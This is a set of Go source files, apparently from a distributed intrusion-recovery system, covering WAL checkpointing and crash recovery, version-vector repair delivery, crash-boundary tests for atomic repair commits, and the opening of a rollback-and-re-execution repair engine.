// delay recovery. Clear the window, mark the vector for re-offer stamping,
// and nudge the pump. Caller holds qmu.
func (c *Controller) vvNackLocked(peer string) {
	if c.vectors == nil {
		return
	}
	pv := c.vectors[peer]
	if pv == nil {
		return
	}
	pv.reoffer = true
	if ps := c.peers[peer]; ps != nil {
		ps.failures = 0
		ps.nextTry = time.Time{}
		ps.notified = false
	}
	c.met.vvReoffers.Inc()
	c.wakePump()
}

// vvClearReofferLocked drops the re-offer mark after a fully healthy batch
// reconcile — the gap the peer reported has been re-delivered (or resolved
// another way), so subsequent carriers go back to normal stamping. Caller
// holds qmu.
func (c *Controller) vvClearReofferLocked(peer string) {
	if c.vectors == nil {
		return
	}
	if pv := c.vectors[peer]; pv != nil {
		pv.reoffer = false
	}
}

// ---- receive side ----------------------------------------------------------

// verifyCarrierBody checks a carrier's body checksum (wire.HdrBodySum,
// stamped by stampDelivery on every repair-plane carrier with a payload).
// A mismatch means the body was corrupted in flight; the delivery is
// refused loudly and retryably (503 → the sender backs the peer off and a
// retry re-sends clean bytes) instead of being silently misapplied.
func (c *Controller) verifyCarrierBody(req wire.Request) *wire.Response {
	sum := req.Header[wire.HdrBodySum]
	if sum == "" || sum == wire.BodySum(req.Body) {
		return nil
	}
	c.met.corruptRejects.Inc()
	c.spanInboxVerdict(req, req.Header[wire.HdrDeliveryID], "corrupt")
	c.emit(EvDupDelivery, req.Header[wire.HdrDeliveryID],
		"carrier body checksum mismatch (want %s); delivery refused", sum)
	resp := wire.NewResponse(503, "aire: carrier body checksum mismatch; retry")
	return &resp
}

// observeCarrierVector feeds a carrier's announced version vector into the
// dedup inbox: compaction of the acked prefix, monotonic vector advance
// (WAL-logged so recovery never regresses below a compaction), and gap
// detection. Returns whether the receiver should NACK, and the first
// sequence it believes is missing (forensic; presence is the signal).
func (c *Controller) observeCarrierVector(from string, req wire.Request) (nack bool, missing uint64) {
	if !c.Cfg.VersionVectors || c.Cfg.DisableDedupInbox {
		return false, 0
	}
	ackedHdr := req.Header[wire.HdrAckedSeq]
	if ackedHdr == "" {
		return false, 0
	}
	origin := from
	if origin == "" {
		origin = req.Header[wire.HdrOrigin]
	}
	if origin == "" {
		return false, 0
	}
	acked, _ := strconv.ParseUint(ackedHdr, 10, 64)
	frontier, _ := strconv.ParseUint(req.Header[wire.HdrFrontierSeq], 10, 64)
	curSeq := deliver.Seq(req.Header[wire.HdrDeliveryID])
	vo := c.dedup.ObserveVector(origin, acked, frontier, curSeq)
	if vo.Compacted > 0 {
		c.met.vvCompacted.Add(int64(vo.Compacted))
	}
	if vo.Advanced && c.walAttached() {
		c.walEmit("inbox", mustOp("in-vv", inVVOp{Origin: origin, Acked: acked, Frontier: frontier}), false)
	}
	if vo.Gap {
		c.met.vvGapNacks.Inc()
		c.spanVVGap(req, origin, vo.Acked+1)
		return true, vo.Acked + 1
	}
	return false, 0
}

// spanVVGap records one gap-detection span, correlated to the carrier's
// wave. No-op with obs disabled.
func (c *Controller) spanVVGap(req wire.Request, origin string, missing uint64) {
	if c.met.reg == nil {
		return
	}
	wave := req.Header[wire.HdrTraceID]
	hop := 0
	if wave != "" {
		hop, _ = strconv.Atoi(req.Header[wire.HdrTraceHop])
	}
	now := c.now().UnixNano()
	c.met.ring.Record(obs.Span{
		Wave: wave, Hop: hop, Service: c.Svc.Name,
		Kind: obs.SpanInbox, Subject: "gap-nack", Peer: origin + "#" + strconv.FormatUint(missing, 10),
		StartNS: now, EndNS: now,
	})
}

// InboxHighWater reports the dedup inbox's high-water entry count — the
// compaction memory bound the vector tests assert on.
func (c *Controller) InboxHighWater() int { return c.dedup.HighWater() }

// PeerVectorDump is one destination peer's sender-side vector state as seen
// by debug surfaces (aireserve's /aire/debug/vectors).
type PeerVectorDump struct {
	Peer string `json:"peer"`
	// Acked is the prefix the next carrier to the peer would announce.
	Acked uint64 `json:"acked"`
	// Frontier is the highest sequence ever issued to the peer.
	Frontier uint64 `json:"frontier"`
	// Outstanding counts queued (unresolved) deliveries to the peer.
	Outstanding int `json:"outstanding"`
	// Reoffer reports that the next carriers will be stamped as
	// anti-entropy recovery traffic (peer NACK or backoff horizon).
	Reoffer bool `json:"reoffer"`
}

// VectorDump snapshots the sender-side version vectors for every peer,
// sorted by peer name. Nil when Config.VersionVectors is off.
func (c *Controller) VectorDump() []PeerVectorDump {
	if c.vectors == nil {
		return nil
	}
	c.qmu.Lock()
	defer c.qmu.Unlock()
	names := make([]string, 0, len(c.vectors))
	for name := range c.vectors {
		names = append(names, name)
	}
	sort.Strings(names)
	out := make([]PeerVectorDump, 0, len(names))
	for _, name := range names {
		pv := c.vectors[name]
		acked := pv.frontier
		for seq := range pv.out {
			if seq <= acked {
				acked = seq - 1
			}
		}
		reoffer := pv.reoffer
		if ps := c.peers[name]; !reoffer && ps != nil && ps.failures >= c.Cfg.MaxAttempts {
			reoffer = true
		}
		out = append(out, PeerVectorDump{
			Peer: name, Acked: acked, Frontier: pv.frontier,
			Outstanding: len(pv.out), Reoffer: reoffer,
		})
	}
	return out
}
