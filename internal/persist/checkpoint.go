// Checkpointing compacts the write-ahead log (internal/wal): a checkpoint
// file pairs a full Snapshot with the WAL sequence it covers, and recovery
// is "load latest checkpoint, then replay the WAL tail". Checkpoints are
// incremental in the storage sense — each one lets wal.Truncate delete the
// segments it covers, so the on-disk footprint stays proportional to the
// activity since the last checkpoint, not to history.
//
// The covered sequence is read from the writer BEFORE the snapshot is
// captured. Mutations racing the capture may therefore land both in the
// snapshot and in the replayed tail; every replay operation is idempotent
// against state the snapshot already contains (see core.ApplyWALEntry), so
// the overlap is harmless. Reading the sequence after the capture would
// have the opposite, fatal property: a commit between the capture and the
// read would be neither in the snapshot nor in the replayed tail.
//
// Checkpoints make two durability promises, both kept before the covered
// WAL segments are allowed to disappear:
//
//   - UpToSeq never exceeds the WAL's durable tail: the covered sequence is
//     read with wal.Writer.SyncedSeq, so even under fsync=interval/none a
//     power loss cannot leave the log ending below what a checkpoint
//     claims. Recovery still verifies this and fails loudly (wrapping
//     wal.ErrCorrupt) if the log ends short of the checkpoint — committed
//     state is missing, and resuming would silently reuse its sequences.
//   - The checkpoint file itself is on disk — contents fsynced, rename
//     pinned by a directory fsync — before CheckpointAndTruncate deletes
//     the segments (or prior checkpoints) it supersedes, so a power loss
//     mid-compaction always leaves a recoverable pairing.
package persist

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"aire/internal/core"
	"aire/internal/wal"
)

// Checkpoint is one on-disk checkpoint: a snapshot plus the WAL sequence up
// to which the snapshot is guaranteed complete.
type Checkpoint struct {
	// UpToSeq is the last WAL sequence certainly reflected in Snap; recovery
	// replays the WAL from UpToSeq+1 (tolerating overlap).
	UpToSeq uint64 `json:"up_to_seq"`
	// Snap is the full state snapshot.
	Snap *Snapshot `json:"snapshot"`
}

// CheckpointName returns the file name for a checkpoint covering upToSeq.
// The zero-padded sequence makes lexical order equal coverage order.
func CheckpointName(upToSeq uint64) string {
	return fmt.Sprintf("checkpoint-%020d.json", upToSeq)
}

func checkpointSeq(name string) (uint64, bool) {
	if !strings.HasPrefix(name, "checkpoint-") || !strings.HasSuffix(name, ".json") {
		return 0, false
	}
	n, err := strconv.ParseUint(strings.TrimSuffix(strings.TrimPrefix(name, "checkpoint-"), ".json"), 10, 64)
	if err != nil {
		return 0, false
	}
	return n, true
}

// checkpointFiles lists checkpoint files in dir, oldest first.
func checkpointFiles(dir string) ([]string, error) {
	ents, err := os.ReadDir(dir)
	if err != nil {
		if os.IsNotExist(err) {
			return nil, nil
		}
		return nil, err
	}
	var names []string
	for _, e := range ents {
		if _, ok := checkpointSeq(e.Name()); ok && !e.IsDir() {
			names = append(names, e.Name())
		}
	}
	sort.Strings(names)
	return names, nil
}

// LatestCheckpoint loads the newest checkpoint in dir, or (nil, nil) when
// the directory holds none.
func LatestCheckpoint(dir string) (*Checkpoint, error) {
	names, err := checkpointFiles(dir)
	if err != nil || len(names) == 0 {
		return nil, err
	}
	path := filepath.Join(dir, names[len(names)-1])
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var cp Checkpoint
	if err := json.Unmarshal(data, &cp); err != nil {
		return nil, fmt.Errorf("persist: decode checkpoint %s: %w", path, err)
	}
	if cp.Snap == nil {
		return nil, fmt.Errorf("persist: checkpoint %s has no snapshot", path)
	}
	return &cp, nil
}

// WriteCheckpoint captures c and writes a checkpoint into dir (atomically,
// via a temporary file). w must be the WAL writer attached to c; its
// sequence is read before the capture so the checkpoint never claims to
// cover a commit the snapshot might miss, and the read forces the log
// durable up to that sequence first (SyncedSeq), so the claim also never
// exceeds what a power loss would leave on disk. The checkpoint itself is
// fsynced — contents before the rename, the directory entry after — before
// the function returns, so a caller may delete what it supersedes. Returns
// the covered sequence.
func WriteCheckpoint(c *core.Controller, w *wal.Writer, dir string) (uint64, error) {
	cpStart := time.Now()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return 0, err
	}
	upTo, err := w.SyncedSeq()
	if err != nil {
		return 0, err
	}
	cp := Checkpoint{UpToSeq: upTo, Snap: Capture(c)}
	data, err := json.Marshal(&cp)
	if err != nil {
		return 0, err
	}
	path := filepath.Join(dir, CheckpointName(upTo))
	tmp := path + ".tmp"
	f, err := os.OpenFile(tmp, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o644)
	if err != nil {
		return 0, err
	}
	_, err = f.Write(data)
	if err == nil {
		// The data blocks must be on disk before the rename publishes the
		// file: rename-then-sync can survive a power loss as a durable
		// directory entry pointing at zero/garbage content.
		err = f.Sync()
	}
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		os.Remove(tmp)
		return 0, err
	}
	if err := os.Rename(tmp, path); err != nil {
		os.Remove(tmp)
		return 0, err
	}
	if err := wal.SyncDir(dir); err != nil {
		return 0, err
	}
	observeCheckpoint(c, cpStart)
	return upTo, nil
}

// CheckpointAndTruncate writes a checkpoint and then compacts: WAL segments
// wholly covered by it are deleted (wal.Truncate never touches the active
// segment or any entry past UpToSeq), and older checkpoint files are
// removed. Returns the covered sequence.
func CheckpointAndTruncate(c *core.Controller, w *wal.Writer, dir string) (uint64, error) {
	upTo, err := WriteCheckpoint(c, w, dir)
	if err != nil {
		return 0, err
	}
	if _, err := wal.Truncate(dir, upTo); err != nil {
		return upTo, err
	}
	names, err := checkpointFiles(dir)
	if err != nil {
		return upTo, err
	}
	for _, name := range names {
		if seq, _ := checkpointSeq(name); seq < upTo {
			if err := os.Remove(filepath.Join(dir, name)); err != nil {
				return upTo, err
			}
		}
	}
	return upTo, nil
}

// Recover rebuilds a freshly constructed controller from dir: it loads the
// latest checkpoint (if any), replays the WAL tail from the checkpoint's
// covered sequence, and opens the WAL for appending, attaching it to the
// controller. A torn final record — a commit interrupted mid-write — is
// tolerated and truncated; any other corruption is returned loudly (the
// error wraps wal.ErrCorrupt) rather than silently dropping committed
// state. Call before serving traffic.
func Recover(c *core.Controller, dir string, opts wal.Options) (*wal.Writer, error) {
	cp, err := LatestCheckpoint(dir)
	if err != nil {
		return nil, err
	}
	var from uint64
	if cp != nil {
		if err := Apply(c, cp.Snap); err != nil {
			return nil, err
		}
		from = cp.UpToSeq
	}
	last, _, err := wal.Replay(dir, from, c.ApplyWALEntry)
	if err != nil {
		return nil, err
	}
	attachWALObs(c, &opts)
	if cp != nil && last < cp.UpToSeq {
		// The checkpoint covers sequences the log no longer reaches.
		// WriteCheckpoint forces the log durable before claiming coverage,
		// so this means durably committed entries went missing; resuming
		// anyway would hand out sequences the next recovery's replay-from-
		// UpToSeq silently skips.
		return nil, fmt.Errorf("persist: %w: checkpoint covers wal seq %d but the log ends at %d", wal.ErrCorrupt, cp.UpToSeq, last)
	}
	w, err := wal.Open(dir, opts)
	if err != nil {
		return nil, err
	}
	c.AttachWAL(w)
	return w, nil
}

// StartCheckpointer runs CheckpointAndTruncate every interval until ctx is
// cancelled, reporting failures to onErr (which may be nil). It returns a
// stop function that halts the loop and waits for any in-progress
// checkpoint to finish.
func StartCheckpointer(ctx context.Context, c *core.Controller, w *wal.Writer, dir string, interval time.Duration, onErr func(error)) (stop func()) {
	ctx, cancel := context.WithCancel(ctx)
	done := make(chan struct{})
	go func() {
		defer close(done)
		t := time.NewTicker(interval)
		defer t.Stop()
		for {
			select {
			case <-ctx.Done():
				return
			case <-t.C:
				if _, err := CheckpointAndTruncate(c, w, dir); err != nil && onErr != nil {
					onErr(err)
				}
			}
		}
	}()
	return func() {
		cancel()
		<-done
	}
}

// RecoverShards recovers a sharded service's shard controllers in
// parallel: each shard has its own checkpoint+WAL directory and its own
// log, with no cross-shard ordering, so recovery is embarrassingly
// parallel — startup cost is the slowest shard, not the sum. Recovery
// never touches a scheduler (pure replay into each controller), so the
// parallelism is safe even under deterministic scheduling: the dsched
// world is not running yet. dirs[i] is shard i's directory; on any
// shard's failure every already-opened writer is closed and the first
// error (by shard index) is returned.
func RecoverShards(shards []*core.Controller, dirs []string, opts wal.Options) ([]*wal.Writer, error) {
	if len(shards) != len(dirs) {
		return nil, fmt.Errorf("persist: %d shards, %d directories", len(shards), len(dirs))
	}
	writers := make([]*wal.Writer, len(shards))
	errs := make([]error, len(shards))
	var wg sync.WaitGroup
	for i := range shards {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			writers[i], errs[i] = Recover(shards[i], dirs[i], opts)
		}(i)
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			for _, w := range writers {
				if w != nil {
					w.Close()
				}
			}
			return nil, fmt.Errorf("persist: recover shard %d: %w", i, err)
		}
	}
	return writers, nil
}
