package persist_test

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"aire/internal/core"
	"aire/internal/harness"
	"aire/internal/persist"
	"aire/internal/transport"
	"aire/internal/wal"
	"aire/internal/warp"
	"aire/internal/wire"
)

// truncateWALAfter cuts dir's log back to exactly upToSeq entries,
// simulating a power loss at that entry boundary: every entry with a later
// sequence is discarded. The tests here stay within one segment, so only
// the final segment is walked (framing per the wal package docs: an 8-byte
// segment header, then [4B len][4B crc][payload] records).
func truncateWALAfter(t *testing.T, dir string, upToSeq uint64) {
	t.Helper()
	segs, err := wal.Segments(dir)
	if err != nil || len(segs) == 0 {
		t.Fatalf("wal segments: %v (%d)", err, len(segs))
	}
	path := filepath.Join(dir, segs[len(segs)-1])
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	off := int64(8) // segment header
	for off < int64(len(data)) {
		ln := int64(binary.BigEndian.Uint32(data[off : off+4]))
		var e struct {
			Seq uint64 `json:"seq"`
		}
		if err := json.Unmarshal(data[off+8:off+8+ln], &e); err != nil {
			t.Fatalf("undecodable entry at %d: %v", off, err)
		}
		if e.Seq > upToSeq {
			if err := os.Truncate(path, off); err != nil {
				t.Fatal(err)
			}
			return
		}
		off += 8 + ln
	}
}

// createCarrier builds a create-bearing repair carrier the way the pump's
// delivery path does, with explicit exactly-once delivery identity, so a
// test can replay the identical redelivery a retrying sender would issue.
func createCarrier(payload wire.Request, origin, deliveryID string) wire.Request {
	req := wire.NewRequest("POST", "/aire/repair")
	req.Header[wire.HdrRepair] = string(warp.OutCreate)
	req.Header[wire.HdrResponseID] = origin + "-resp-1"
	req.Header[wire.HdrNotifierURL] = transport.NotifierURL(origin)
	req.Body = payload.Encode()
	req.Header[wire.HdrDeliveryID] = deliveryID
	req.Header[wire.HdrGeneration] = "0"
	req.Header[wire.HdrOrigin] = origin
	return req
}

// runDirectCreateCrash delivers one create carrier to a WAL-attached
// receiver "b" (direct-apply mode) that cascades the created write to "c",
// crashes b at the WAL entry boundary `keep` entries into the delivery,
// recovers, replays the sender's redelivery of the identical carrier, and
// drains. It returns b's and c's repair-log record counts — exactly-once
// demands 1 and 1 at every crash point — plus how many entries the first
// delivery appended (so the caller can sweep every boundary).
func runDirectCreateCrash(t *testing.T, split bool, keep uint64) (bRecords, cRecords int, appended uint64) {
	t.Helper()
	dir := t.TempDir()
	bus := transport.NewBus()
	cfg := core.DefaultConfig()
	cfg.FaultSplitRepairCommit = split
	b := core.NewController(&harness.KVApp{ServiceName: "b", Mirror: "c"}, bus, cfg)
	bus.Register("b", b)
	cc := core.NewController(&harness.KVApp{ServiceName: "c"}, bus, core.DefaultConfig())
	bus.Register("c", cc)
	w, err := persist.Recover(b, dir, wal.Options{Policy: wal.FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}

	create := createCarrier(wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "shared"), "a", "a-dlv-1")
	resp, err := bus.Call("a", "b", create)
	if err != nil || !resp.OK() {
		t.Fatalf("create delivery: %v %+v", err, resp)
	}
	appended = w.Seq()
	if keep > appended {
		t.Fatalf("crash point %d past the delivery's %d entries", keep, appended)
	}

	// Power loss at the chosen entry boundary, then recovery.
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	truncateWALAfter(t, dir, keep)
	b2 := core.NewController(&harness.KVApp{ServiceName: "b", Mirror: "c"}, bus, cfg)
	w2, err := persist.Recover(b2, dir, wal.Options{Policy: wal.FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}
	defer w2.Close()
	bus.Register("b", b2)

	// The sender never saw an ack for the crashed delivery, so it retries
	// the identical carrier; then the recovered queue drains to c.
	resp, err = bus.Call("a", "b", create.Clone())
	if err != nil || !resp.OK() {
		t.Fatalf("redelivery: %v %+v", err, resp)
	}
	for i := 0; i < 10; i++ {
		if d, _ := b2.Flush(); d == 0 {
			break
		}
	}
	return b2.Svc.Log.Len(), cc.Svc.Log.Len(), appended
}

// TestAtomicRepairCommitSurvivesAnyCrashPoint sweeps every WAL entry
// boundary of a gated direct-apply create delivery: with the repair
// mutations, queue effects, and inbox commit folded into one atomic entry,
// no crash point followed by the sender's redelivery can mint a duplicate
// record at the receiver or double-queue the cascade downstream.
func TestAtomicRepairCommitSurvivesAnyCrashPoint(t *testing.T) {
	_, _, appended := runDirectCreateCrash(t, false, 0)
	if appended != 1 {
		t.Fatalf("gated create delivery appended %d entries, want 1 atomic entry", appended)
	}
	for keep := uint64(0); keep <= appended; keep++ {
		t.Run(fmt.Sprintf("keep=%d", keep), func(t *testing.T) {
			bRecs, cRecs, _ := runDirectCreateCrash(t, false, keep)
			if bRecs != 1 || cRecs != 1 {
				t.Fatalf("crash at boundary %d: b has %d records, c has %d, want exactly 1 and 1", keep, bRecs, cRecs)
			}
		})
	}
}

// TestSplitRepairCommitDoubleQueues pins the pre-fix hazard this PR closes:
// with the historical split commit (repair entry, then standalone queue
// entries, then a standalone inbox commit — reintroduced via
// Config.FaultSplitRepairCommit), there is a crash boundary where the
// repair and its queued cascade are durable but the inbox commit is not.
// The sender's redelivery then re-applies the create — a duplicate record
// at the receiver AND a double-queued cascade downstream.
func TestSplitRepairCommitDoubleQueues(t *testing.T) {
	_, _, appended := runDirectCreateCrash(t, true, 0)
	if appended < 3 {
		t.Fatalf("split-commit create delivery appended %d entries, want >= 3 (repair, q-set, in-commit)", appended)
	}
	violations := 0
	doubleQueued := false
	for keep := uint64(0); keep <= appended; keep++ {
		bRecs, cRecs, _ := runDirectCreateCrash(t, true, keep)
		if bRecs != 1 || cRecs != 1 {
			violations++
			t.Logf("boundary %d: b=%d c=%d records", keep, bRecs, cRecs)
		}
		if bRecs == 2 && cRecs == 2 {
			doubleQueued = true
		}
	}
	if violations == 0 {
		t.Fatal("split-commit path no longer violates exactly-once at any crash boundary; the fault flag is not reproducing the pre-fix behavior")
	}
	if !doubleQueued {
		t.Fatal("no crash boundary double-queued the cascade (b=2, c=2); the documented window is not reproduced")
	}
}

// runBatchCancelCrash drives the batch-incoming variant: an upstream "a"
// repairs an attack write that was mirrored a→b→c, b (BatchIncoming, WAL)
// accepts the repair delivery, applies it via ProcessIncoming, and crashes
// at entry boundary `keep` within ProcessIncoming's entries. After
// recovery b re-runs ProcessIncoming (in case the accepted batch is still
// pending) and drains. Returns c's observed value for the repaired key —
// "good" iff the cascade survived — and ProcessIncoming's entry count.
func runBatchCancelCrash(t *testing.T, split bool, keep uint64) (cVal string, appended uint64) {
	t.Helper()
	dir := t.TempDir()
	bus := transport.NewBus()
	a := core.NewController(&harness.KVApp{ServiceName: "a", Mirror: "b"}, bus, core.DefaultConfig())
	bus.Register("a", a)
	bcfg := core.DefaultConfig()
	bcfg.BatchIncoming = true
	bcfg.FaultSplitRepairCommit = split
	b := core.NewController(&harness.KVApp{ServiceName: "b", Mirror: "c"}, bus, bcfg)
	bus.Register("b", b)
	cc := core.NewController(&harness.KVApp{ServiceName: "c"}, bus, core.DefaultConfig())
	bus.Register("c", cc)
	w, err := persist.Recover(b, dir, wal.Options{Policy: wal.FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}

	mustCall := func(svc string, req wire.Request) wire.Response {
		t.Helper()
		resp, err := bus.Call("", svc, req)
		if err != nil || !resp.OK() {
			t.Fatalf("%s %s: %v %+v", req.Method, req.Path, err, resp)
		}
		return resp
	}
	mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "good"))
	attack := mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "evil"))

	// Repair at a; b accepts the delivery into its incoming batch (202).
	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	a.Flush()
	if b.InboxLen() == 0 {
		t.Fatal("b did not accept the repair into its batch")
	}
	accepted := w.Seq()
	if _, err := b.ProcessIncoming(); err != nil {
		t.Fatal(err)
	}
	appended = w.Seq() - accepted
	if keep > appended {
		t.Fatalf("crash point %d past ProcessIncoming's %d entries", keep, appended)
	}

	// Power loss `keep` entries into the batch apply, then recovery.
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	truncateWALAfter(t, dir, accepted+keep)
	b2 := core.NewController(&harness.KVApp{ServiceName: "b", Mirror: "c"}, bus, bcfg)
	w2, err := persist.Recover(b2, dir, wal.Options{Policy: wal.FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}
	defer w2.Close()
	bus.Register("b", b2)

	// a saw the 202 and reconciled, so nothing upstream retries: b2 must
	// make the cascade whole from its own durable state.
	if _, err := b2.ProcessIncoming(); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 10; i++ {
		if d, _ := b2.Flush(); d == 0 {
			break
		}
	}
	resp := mustCall("c", wire.NewRequest("GET", "/get").WithForm("key", "x"))
	return string(resp.Body), appended
}

// TestAtomicBatchCommitSurvivesAnyCrashPoint sweeps every crash boundary
// of ProcessIncoming's WAL commit: with the batch's repair mutations,
// inbox commits, drain watermark, AND queue effects in one atomic entry,
// the cascade to the downstream mirror survives a crash at any boundary —
// either the batch never applied (the accepted actions are still pending
// and re-apply) or it applied with its outgoing messages durably queued.
func TestAtomicBatchCommitSurvivesAnyCrashPoint(t *testing.T) {
	_, appended := runBatchCancelCrash(t, false, 0)
	if appended != 1 {
		t.Fatalf("batch apply appended %d entries, want 1 atomic entry", appended)
	}
	for keep := uint64(0); keep <= appended; keep++ {
		t.Run(fmt.Sprintf("keep=%d", keep), func(t *testing.T) {
			cVal, _ := runBatchCancelCrash(t, false, keep)
			if cVal != "good" {
				t.Fatalf("crash at boundary %d lost the repair cascade: c has %q, want %q", keep, cVal, "good")
			}
		})
	}
}

// TestSplitBatchCommitLosesCascade pins the other half of the pre-fix
// hazard: with queue effects written as standalone entries after the batch
// commit, there is a crash boundary where the inbox is committed and
// drained (so nothing will ever retry) but the cascade messages were never
// durably queued — the downstream mirror keeps the attack value forever.
func TestSplitBatchCommitLosesCascade(t *testing.T) {
	_, appended := runBatchCancelCrash(t, true, 0)
	if appended < 2 {
		t.Fatalf("split batch apply appended %d entries, want >= 2 (batch commit, q-set)", appended)
	}
	lost := false
	for keep := uint64(0); keep <= appended; keep++ {
		cVal, _ := runBatchCancelCrash(t, true, keep)
		if cVal != "good" {
			lost = true
			t.Logf("boundary %d: c left with %q", keep, cVal)
		}
	}
	if !lost {
		t.Fatal("split batch commit no longer loses the cascade at any crash boundary; the fault flag is not reproducing the pre-fix behavior")
	}
}
