// Package warp implements local intrusion recovery by rollback and
// selective re-execution — the Warp-derived engine every Aire service runs
// (§2.1, §3.2).
//
// Given a set of repair actions (cancel a request, replace a request's
// payload, create a request in the past, or replace the logged response of
// an outgoing call), the engine:
//
//  1. rolls back the database versions written by affected requests,
//  2. walks the affected slice of the service timeline — candidates come
//     from the repair log's inverted read-dependency index (readers of
//     rolled-back keys, scanners of touched models, writers of touched
//     keys), in timeline order — re-executing every request whose recorded
//     dependencies no longer match the (partially repaired) store, and
//  3. diffs each re-execution's outgoing calls, response, and external
//     effects against the log, emitting the cross-service repair messages
//     (replace / delete / create / replace_response) that Aire's controller
//     queues for other services (§3.2).
//
// Re-execution is deterministic — recorded nondeterminism is replayed and
// object IDs are derived from request IDs — so repair is stable (§3.3):
// repairing time t only produces repair messages for times after t, and
// repair propagation converges.
package warp

import (
	"container/heap"
	"errors"
	"fmt"
	"time"

	"aire/internal/repairlog"
	"aire/internal/vdb"
	"aire/internal/web"
	"aire/internal/wire"
)

// ActionKind enumerates local repair actions. The first three correspond
// directly to the repair protocol operations of Table 1 as received by a
// service; ReplaceCallResp is the local application of an incoming
// replace_response (fixing the logged response of a call this service made).
type ActionKind int

const (
	// CancelReq undoes a past request entirely (Table 1 "delete").
	CancelReq ActionKind = iota
	// ReplaceReq re-executes a past request with corrected content
	// (Table 1 "replace").
	ReplaceReq
	// CreateReq executes a new request in the past (Table 1 "create").
	CreateReq
	// ReplaceCallResp replaces the logged response of an outgoing call
	// (the receiving half of Table 1 "replace_response").
	ReplaceCallResp
)

func (k ActionKind) String() string {
	switch k {
	case CancelReq:
		return "delete"
	case ReplaceReq:
		return "replace"
	case CreateReq:
		return "create"
	case ReplaceCallResp:
		return "replace_response"
	}
	return fmt.Sprintf("ActionKind(%d)", int(k))
}

// Action is one local repair instruction.
type Action struct {
	Kind ActionKind

	// ReqID names the local request to cancel/replace.
	ReqID string
	// NewReq is the corrected request (ReplaceReq) or the request to run in
	// the past (CreateReq).
	NewReq wire.Request

	// BeforeID and AfterID anchor a created request on the local timeline
	// (§3.1); either may be empty.
	BeforeID, AfterID string
	// From, ClientRespID, and NotifierURL give a created or replaced
	// request its repair-message-sender context, so the response can be
	// propagated back.
	From, ClientRespID, NotifierURL string

	// RespID names the outgoing call whose response is being replaced
	// (ReplaceCallResp); NewResp is the corrected response, and
	// RemoteReqID, if non-empty, supplies the peer-assigned request ID the
	// call record should learn (a created call does not know it yet).
	RespID      string
	NewResp     wire.Response
	RemoteReqID string
}

// OutKind is the wire name of a queued repair operation (Table 1).
type OutKind string

// The four repair protocol operations of Table 1.
const (
	OutReplace         OutKind = "replace"
	OutDelete          OutKind = "delete"
	OutCreate          OutKind = "create"
	OutReplaceResponse OutKind = "replace_response"
)

// OutMsg is a repair message this service must (asynchronously) deliver to
// a peer.
type OutMsg struct {
	Kind   OutKind
	Target string // peer service name (replace/delete/create)

	// RemoteReqID names the peer's request being replaced or deleted.
	RemoteReqID string
	// Req is the corrected/new request payload (replace/create).
	Req wire.Request
	// RespID: for replace/create, the fresh Aire-Response-Id attached so
	// the peer can later repair the response; for replace_response, the
	// client-assigned response ID being repaired.
	RespID string
	// BeforeID/AfterID anchor a create on the peer's timeline, named by the
	// peer's own request IDs (§3.1).
	BeforeID, AfterID string

	// Resp is the corrected response (replace_response).
	Resp wire.Response
	// NotifierURL is where the response-repair token is sent
	// (replace_response).
	NotifierURL string
	// LocalReqID is our request whose response changed (replace_response);
	// the peer learns it as the authoritative Aire-Request-Id.
	LocalReqID string
	// CallRespID, for replace/create messages, identifies the local call
	// record to update with the peer-assigned request ID once the message
	// is delivered.
	CallRespID string
}

// NoticeKind classifies repair notices surfaced to the application /
// administrator.
type NoticeKind string

const (
	// NoticeNoPropagation flags a changed request or response that cannot
	// be repaired remotely because the original message carried no Aire
	// identifiers (§2.3: non-Aire clients).
	NoticeNoPropagation NoticeKind = "no-propagation"
	// NoticeCompensation flags an external effect whose payload changed
	// under repair; the effect cannot be unperformed, so the administrator
	// is told the corrected content (§7.1's daily email).
	NoticeCompensation NoticeKind = "compensation"
	// NoticeLeak flags a request that read confidential data during
	// original execution but not during replay — a likely disclosure to
	// investigate (§9).
	NoticeLeak NoticeKind = "leak"
)

// Notice is one repair finding surfaced to the application.
type Notice struct {
	Kind   NoticeKind
	ReqID  string
	Detail string
}

// Result summarizes one local repair (the measurements of Table 5).
type Result struct {
	// RepairedRequests counts requests re-executed or cancelled.
	RepairedRequests int
	// TotalRequests is the log size at repair time.
	TotalRequests int
	// RepairedModelOps counts model operations performed during repair.
	RepairedModelOps int
	// TotalModelOps counts model operations across the whole log.
	TotalModelOps int
	// Msgs are the repair messages to queue for peers.
	Msgs []OutMsg
	// Notices are findings for the administrator/application.
	Notices []Notice
	// Duration is the wall time local repair took.
	Duration time.Duration
	// PhaseDurations breaks Duration down by repair phase, indexed like
	// RepairPhases: validate, bookkeep (action bookkeeping + earliest
	// affected time), walk (the timeline re-execution), totals. The
	// controller turns these into repair-phase observability spans; warp
	// itself stays free of the obs dependency.
	PhaseDurations [4]time.Duration
	// CreatedIDs lists, in action order, the request IDs assigned to
	// requests added by CreateReq actions; the creating peer learns them so
	// it can repair the created request later.
	CreatedIDs []string
	// Trace, when the engine is verbose, narrates repair decisions.
	Trace []string
}

// RepairPhases names the entries of Result.PhaseDurations.
var RepairPhases = [4]string{"validate", "bookkeep", "walk", "totals"}

// Config tunes the repair engine.
type Config struct {
